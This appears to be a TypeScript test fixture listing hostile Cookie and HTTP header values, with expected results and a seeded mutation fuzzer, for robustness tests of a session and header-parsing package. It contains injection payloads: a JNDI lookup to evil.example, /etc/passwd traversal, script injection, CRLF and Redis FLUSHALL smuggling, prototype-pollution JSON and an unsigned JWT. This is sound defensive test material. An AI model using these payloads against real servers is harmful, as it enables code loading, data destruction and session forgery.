// What hostile clients send, for the tests of this folder and for `npm run bench -- hostile`.

/** What happens to a request with a hostile cookie. */
export interface CookieOutcome {
  readonly status: number
  /** Whether it opens the session of the good value. */
  readonly isOpen: boolean
  /** Number of store calls. */
  readonly calls: number
}

/** One hostile cookie. */
export type HostileCookie = readonly [
  number: number,
  what: string,
  headers: (good: string) => string,
  expected: CookieOutcome,
]

const unknown = 'B'.repeat(64)
const opens = { status: 200, isOpen: true, calls: 1 }
const guest = { status: 200, isOpen: false, calls: 0 }
const asked = { status: 200, isOpen: false, calls: 1 }
// Answered by Node's parser.
const bad = { status: 400, isOpen: false, calls: 0 }
const tooLarge = { status: 431, isOpen: false, calls: 0 }

/** Header lines around a good value of a cookie `session`, in bytes as latin1. */
export const hostileCookies: readonly HostileCookie[] = [
  [1, 'none', () => 'X: y', guest],
  [2, 'an empty header', () => 'Cookie:', guest],
  [3, 'spaces', () => 'Cookie:     ', guest],
  [4, 'the name without =', () => 'Cookie: session', guest],
  [5, 'an empty value', () => 'Cookie: session=', guest],
  [6, 'a good value', (good) => `Cookie: session=${good}`, opens],
  [7, 'a quoted value', (good) => `Cookie: session="${good}"`, guest],
  [8, 'an unbalanced quote', (good) => `Cookie: session="${good}`, guest],
  [9, 'a lone quote', () => 'Cookie: session="', guest],
  [10, 'a duplicate', (good) => `Cookie: session=${good}; session=evil`, opens],
  [11, 'two headers', (good) => `Cookie: session=evil\r\nCookie: session=${good}`, opens],
  [12, 'the name in other case', (good) => `Cookie: Session=${good}`, guest],
  [13, 'a look-alike', (good) => `Cookie: session2=${good}; xsession=${good}`, guest],
  [14, 'a nameless cookie', (good) => `Cookie: =session=${good}`, guest],
  [15, 'a nameless empty cookie', (good) => `Cookie: =; session=${good}`, opens],
  [16, 'commas', (good) => `Cookie: session=${good},session=${unknown}`, guest],
  [17, 'no space after ;', (good) => `Cookie: a=1;session=${good}`, opens],
  [18, 'a TAB after ;', (good) => `Cookie: a=1;\tsession=${good}`, opens],
  [19, 'leading ;', (good) => `Cookie: ;;;;session=${good}`, opens],
  [20, 'spaces around =', (good) => `Cookie: session = ${good}`, guest],
  [21, 'trailing spaces', (good) => `Cookie: session=${good}    `, opens],
  [22, 'NUL', (good) => `Cookie: session=${good}\0`, bad],
  [23, 'a bare CR', (good) => `Cookie: session=${good}\rX: y`, bad],
  [24, 'a bare LF', (good) => `Cookie: session=\n${good}`, bad],
  [25, 'a folded line', (good) => `Cookie: a=1;\r\n session=${good}`, bad],
  [26, 'DEL', (good) => `Cookie: session=${good}\x7F`, bad],
  [27, 'bytes of 0xFF', () => `Cookie: session=${'\xFF'.repeat(64)}`, guest],
  [28, 'an emoji', (good) => `Cookie: session=\xF0\x9F\x8D\xB5${good.slice(4)}`, guest],
  [29, 'overlong UTF-8', (good) => `Cookie: session=\xC0\xAF${good.slice(2)}`, guest],
  [30, 'encoded control characters', () => 'Cookie: session=%00%0d%0a', guest],
  [31, 'a bad percent sign', () => 'Cookie: session=%E0%A4%A', guest],
  [32, 'an encoded name', (good) => `Cookie: %73ession=${good}`, guest],
  [33, '4 097 bytes', () => `Cookie: session=${'A'.repeat(4097 - 8)}`, guest],
  [34, '15 000 bytes', () => `Cookie: session=${'A'.repeat(15_000)}`, guest],
  [35, '17 000 bytes', () => `Cookie: session=${'A'.repeat(17_000)}`, tooLarge],
  [36, '1 900 cookies', (good) => `Cookie: ${many(1900)}; session=${good}`, opens],
  [37, '14 000 semicolons', (good) => `Cookie: ${';'.repeat(14_000)}session=${good}`, opens],
  [38, '14 000 spaces', (good) => `Cookie: a=1;${' '.repeat(14_000)}session=${good}`, opens],
  [39, '7 000 empty pairs', (good) => `Cookie: ${'; '.repeat(7000)}session=${good}`, opens],
  [40, 'names of prototypes', () => 'Cookie: __proto__=x; constructor=y; prototype=z', guest],
  [41, 'JSON', () => 'Cookie: session={"__proto__":{"polluted":1}}', guest],
  [42, 'a path', () => 'Cookie: session=../../../../etc/passwd', guest],
  [43, 'a command in escapes', () => String.raw`Cookie: session=\r\nFLUSHALL\r\n`, guest],
  [44, 'a hash tag', () => 'Cookie: session={other-user}', guest],
  [45, 'a glob', () => 'Cookie: session=*', guest],
  [46, 'brackets', (good) => `Cookie: session[]=${good}; session[x]=${good}`, guest],
  [47, '$Version', (good) => `Cookie: $Version=1; session=${good}; $Path=/`, opens],
  [48, 'a forged signature', () => `Cookie: session=${unknown}; session.sig=forged`, asked],
  [49, 'one character less', (good) => `Cookie: session=${good.slice(1)}`, guest],
  [50, 'padding', (good) => `Cookie: session=${good}=`, guest],
  [51, 'another last character', (good) => `Cookie: session=${neighbour(good)}`, asked],
  [52, 'the other alphabet', (good) => `Cookie: session=+/${good.slice(2)}`, guest],
  [53, '0', () => 'Cookie: session=0', guest],
  [54, 'undefined', () => 'Cookie: session=undefined', guest],
  [55, 'the name over HTTPS', (good) => `Cookie: __Host-session=${good}`, guest],
  [56, 'Cookie2', (good) => `Cookie2: session=${good}`, guest],
  [57, 'COOKIE', (good) => `COOKIE: session=${good}`, opens],
  [58, 'a sandwich of quotes', () => `Cookie: a="; session=${unknown}; b="`, asked],
  [59, 'another prefix', (good) => `Cookie: __Secure-session=${good}`, guest],
  [60, 'a value as from a template', () => 'Cookie: session=${7*7}{{7*7}}<%=7%>', guest],
  [61, 'a JNDI address', () => 'Cookie: session=${jndi:ldap://evil.example/a}', guest],
  [62, 'colours of a terminal', () => 'Cookie: session=%1b[31mred', guest],
  [63, 'a soft hyphen', (good) => `Cookie: session=\xAD${good.slice(1)}`, guest],
  [64, 'a no-break space', (good) => `Cookie: session=\xA0${good.slice(1)}`, guest],
  [65, 'a no-break space in front', (good) => `Cookie: a=1;\xA0session=${good}`, guest],
  [66, 'a method of every object', () => 'Cookie: session=hasOwnProperty; toString=1', guest],
  [67, 'one character more', (good) => `Cookie: session=${good}A`, guest],
  [68, 'a good value in brackets', (good) => `Cookie: session=[${good}]`, guest],
  [69, '900 malformed values', () => `Cookie: ${'session=x; '.repeat(900)}`, guest],
  [70, 'slashes at the end', (good) => `Cookie: session=${good}//`, guest],
  [71, 'a good value, encoded', (good) => `Cookie: session=${encoded(good)}`, guest],
]

/** A value whose first character is percent-encoded. */
function encoded(good: string): string {
  return `%${good.charCodeAt(0).toString(16)}${good.slice(1)}`
}

function many(count: number): string {
  return Array.from({ length: count }, (_, index) => `${index}=`).join('; ')
}

/** A value that differs in its last bit. */
function neighbour(good: string): string {
  const bytes = Buffer.from(good, 'base64url')
  bytes[bytes.length - 1]! ^= 1
  return bytes.toString('base64url')
}

/** Numbers from 0 to 1, the same for the same seed: mulberry32. */
export function seededRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d_2b_79_f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

/** Changes a text in one to three places. */
export function mutate(text: string, random: () => number): string {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const characters = Array.from('ABCabc0189-_+/=%."\\ \t;,\0\x7F\xFFäß\u{1F375}')
  let mutated = text
  for (let change = 0; change <= random() * 3; change++) {
    const at = Math.floor(random() * (mutated.length + 1))
    const [before, after] = [mutated.slice(0, at), mutated.slice(at)]
    mutated = pick([
      () => before + pick(characters) + after,
      () => before + pick(characters) + after.slice(1),
      () => before + String.fromCharCode((before.charCodeAt(at - 1) || 64) ^ 1) + after.slice(1),
      () => before + after.slice(1),
      () => after + before,
      () => before + Array.from(after).toReversed().join(''),
      () => before + after.toUpperCase(),
      () => before + after.toLowerCase(),
      () => before + encodeURIComponent(pick(characters)) + after,
      () => mutated + mutated,
      () => `"${mutated}"`,
    ])()
  }
  return mutated
}

/** The headers that this package reads, or that Koa reads for it. */
export const readHeaders: readonly string[] = [
  'User-Agent',
  'Sec-CH-UA',
  'Sec-CH-UA-Full-Version-List',
  'Sec-CH-UA-Mobile',
  'Sec-CH-UA-Model',
  'Sec-CH-UA-Platform',
  'Sec-CH-UA-Platform-Version',
  'Accept-Language',
  'X-Client-Culture',
  'X-Client-UI-Culture',
  'X-Client-UTC-Offset',
  'Authorization',
  'Origin',
  'Host',
  'Sec-Fetch-Site',
  'Forwarded',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
]

// As much as Node accepts beside the rest of a request: 16,384 bytes in all.
const longest = 15_000

/** Values for any header, in bytes as latin1: everything that Node's parser accepts. */
export const hostileValues: readonly (readonly [what: string, value: string])[] = [
  ['nothing', ''],
  ['a TAB within', 'a\tb'],
  ['every byte that may be', everyByte()],
  ['controls of a terminal, C1', '\x9B31mred\x9B0m\x85\x8D'],
  ['bytes of 0xFF', '\xFF'.repeat(longest)],
  ['UTF-8 that reorders', '\xE2\x80\xAEgnp.exe\xE2\x80\xA8\xE2\x80\x8B\xEF\xBB\xBF'],
  ['overlong UTF-8', '\xC0\xAF\xED\xA0\x80'],
  ['HTML', '"><script>alert(1)</script>'],
  ['encoded line breaks', 'a%0d%0aSet-Cookie:%20session=evil%00'],
  ['escaped line breaks', String.raw`a\r\nFLUSHALL\r\n\u0000`],
  ['a format', '%s%d%j%o%O%c%%'],
  ['a JNDI address', '${jndi:ldap://evil.example/a}'],
  ['a path', '../../../../etc/passwd'],
  ['a hash tag and a glob', '{other-user}*'],
  ['JSON', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['a quoted __proto__', '"__proto__";v="constructor"'],
  ['a lone quote', '"'],
  ['a lone backslash in quotes', '"\\'],
  ['invalid numbers', 'NaN, -0, 1e999, 0x10, -Infinity'],
  ['a number of 15 000 digits', '9'.repeat(longest)],
  ['15 000 letters', 'A'.repeat(longest)],
  ['15 000 opening brackets', '('.repeat(longest)],
  ['15 000 quotes', '"'.repeat(longest)],
  ['15 000 backslashes in quotes', `"${'\\'.repeat(longest)}"`],
  ['15 000 commas', ','.repeat(longest)],
  ['15 000 semicolons', ';'.repeat(longest)],
  ['15 000 slashes', '/'.repeat(longest)],
  ['15 000 spaces within', `a${' '.repeat(longest)}b`],
  ['15 000 TABs within', `a${'\t'.repeat(longest)}b`],
  ['7 000 subtags', `de${'-a'.repeat(7000)}`],
  ['many brands', '"Not A;Brand";v="1", '.repeat(700)],
  ['many languages', 'de-CH;q=0.5, '.repeat(1100)],
  ['many weights', `de${';q=0.5'.repeat(2000)}`],
  ['many products', 'Mozilla/5.0 (X; wv) Chrome/1 bot '.repeat(440)],
  ['many almost products', `Mozilla/5.0 (${'Android 1;'.repeat(1400)}`],
  ['many dots', `Chrome/${'1.'.repeat(7400)}`],
  ['many underscores', `(iPhone; CPU iPhone OS ${'1_'.repeat(7000)} like Mac OS X)`],
  ['many addresses', '10.0.0.1, '.repeat(1400)],
  ['no address', "127.0.0.1;drop, <script>, unknown, ::ffff:'"],
  ['a long IPv6 address with a zone', `fe80::1%${'z'.repeat(1000)}`],
  ['no URL', 'http://['],
  ['a URL with everything', 'https://user:pass@evil.example:99999/path?query#hash'],
  ['a URL of a script', 'javascript:alert(1)'],
  ['null', 'null'],
  ['cross-site', 'cross-site'],
  ['same-origin twice', 'same-origin, same-origin'],
  ['Bearer alone', 'Bearer'],
  ['Bearer and spaces', `Bearer${' '.repeat(longest)}`],
  ['Bearer and spaces before a bad end', `Bearer${' '.repeat(longest)}!`],
  ['Bearer and 15 000 letters', `Bearer ${'a'.repeat(longest)}`],
  ['Bearer and 15 000 =, with a bad end', `Bearer a${'='.repeat(longest)}!`],
  ['Bearer and dots', `Bearer ${'.'.repeat(longest)}`],
  ['Bearer without a signature', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbm4ifQ.'],
  ['Bearer and a deep header', `Bearer ${base64url('{"a":'.repeat(2000))}.e30.AA`],
  ['Bearer and deep arrays', `Bearer ${base64url('['.repeat(5000) + ']'.repeat(5000))}.e30.AA`],
  ['Bearer with a hostile kid', `Bearer ${base64url('{"alg":"HS256","kid":"__proto__"}')}.e30.AA`],
  ['Bearer with a hostile alg', `Bearer ${base64url('{"alg":"__proto__","kid":"HS256"}')}.e30.AA`],
  ['Basic', 'Basic YW5uOnNlY3JldA=='],
]

function everyByte(): string {
  const bytes = Array.from({ length: 256 }, (_, byte) => byte)
  const allowed = bytes.filter((byte) => byte === 9 || (byte >= 32 && byte !== 127))
  return Buffer.from(allowed).toString('latin1')
}

function base64url(text: string): string {
  return Buffer.from(text).toString('base64url')
}
